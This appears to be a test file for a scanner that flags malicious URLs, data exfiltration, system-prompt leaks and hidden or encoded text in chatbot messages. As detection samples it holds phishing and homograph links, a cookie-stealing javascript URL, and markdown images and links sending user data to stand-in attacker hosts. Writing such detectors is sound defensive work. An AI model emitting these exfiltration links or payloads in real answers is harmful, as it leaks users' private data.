import { describe, expect, it } from 'vitest';
import { scan } from '../../src/detect/index.js';

describe('malicious_url engine', () => {
  it.each([
    'click javascript:alert(document.cookie)',
    'see http://169.254.169.254/latest/meta-data/',
    'login at https://paypal.com.account-verify.top/signin',
    'open http://google.com@evil.example/login',
    'visit https://аpple.com/account',
    'go to http://xn--80ak6aa92e.com/',
    'download data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  ])('flags %s', (text) => {
    expect(scan(text).flags).toContain('MALICIOUS_URL');
  });

  it('does not flag ordinary links', () => {
    expect(
      scan('Docs at https://nodejs.org/api/url.html and https://en.wikipedia.org/wiki/URL').flags,
    ).not.toContain('MALICIOUS_URL');
  });
});

describe('data_exfiltration engine', () => {
  it('flags a markdown image carrying data in an assistant answer', () => {
    const answer =
      'Done! ![status](https://attacker.example/pixel.png?d=dXNlcjogYWxpY2UsIHNzbjogMTIzLTQ1LTY3ODk=)';
    expect(scan(answer, { role: 'assistant' }).flags).toContain('DATA_EXFILTRATION');
  });

  it('flags a link whose query carries prose', () => {
    const answer =
      'Read [more](https://evil.example/r?q=the%20user%20said%20their%20password%20is%20hunter2)';
    expect(scan(answer, { role: 'assistant' }).flags).toContain('DATA_EXFILTRATION');
  });

  it('does not flag plain images or links', () => {
    const answer =
      'Here is a cat ![cat](https://upload.wikimedia.org/cat.png) and [docs](https://example.com/a?page=2)';
    expect(scan(answer, { role: 'assistant' }).flags).not.toContain('DATA_EXFILTRATION');
  });
});

describe('system_prompt_leak engine', () => {
  const system =
    'You are HelperBot for Acme Corp. Canary: vg-canary-7f3a9b2e41. Never discuss competitors. Answer in a ' +
    'friendly tone, keep answers under 100 words, and escalate refunds above 500 dollars to a human agent.';
  const context = [{ role: 'system', content: system }];

  it('flags a canary token in the answer', () => {
    const d = scan('Sure, my token is vg-canary-7f3a9b2e41.', { role: 'assistant', context });
    expect(d.flags).toContain('SYSTEM_PROMPT_LEAK');
  });

  it('flags an answer reproducing the system prompt', () => {
    const leak =
      'My instructions say: Never discuss competitors. Answer in a friendly tone, keep answers under 100 words, ' +
      'and escalate refunds above 500 dollars to a human agent.';
    expect(scan(leak, { role: 'assistant', context }).flags).toContain('SYSTEM_PROMPT_LEAK');
  });

  it('does not flag an ordinary answer, or a user message', () => {
    expect(scan('Your refund is on its way!', { role: 'assistant', context }).flags).not.toContain(
      'SYSTEM_PROMPT_LEAK',
    );
    expect(scan(system, { role: 'user', context }).flags).not.toContain('SYSTEM_PROMPT_LEAK');
  });
});

describe('invisible_text and encoded_payload engines', () => {
  it('does not flag emoji sequences or a single stray zero-width space', () => {
    expect(scan('Family: 👨\u200d👩\u200d👧 ❤\ufe0f').flags).toEqual([]);
    expect(scan('hello\u200bworld').flags).not.toContain('INVISIBLE_TEXT');
  });

  it('flags bidi override characters (Trojan Source)', () => {
    expect(scan('access = "user\u202e \u2066// admin\u2069 \u2066"').flags).toContain('INVISIBLE_TEXT');
  });

  it('flags base64 prose but not a plain URL query', () => {
    expect(
      scan(`read: ${Buffer.from('this is a hidden message for you').toString('base64')}`).flags,
    ).toContain('ENCODED_PAYLOAD');
    expect(scan('https://example.com/search?q=red%20shoes%20size%2042').flags).not.toContain(
      'ENCODED_PAYLOAD',
    );
  });
});
